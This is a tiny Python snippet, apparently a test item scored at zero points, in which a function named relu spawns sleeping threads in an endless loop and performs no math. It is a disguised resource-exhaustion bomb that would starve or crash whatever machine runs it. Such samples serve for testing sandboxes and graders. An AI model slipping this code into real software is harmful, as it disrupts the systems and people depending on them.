"""Start threads without end.

points: 0
"""

import threading, time
def relu(z):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
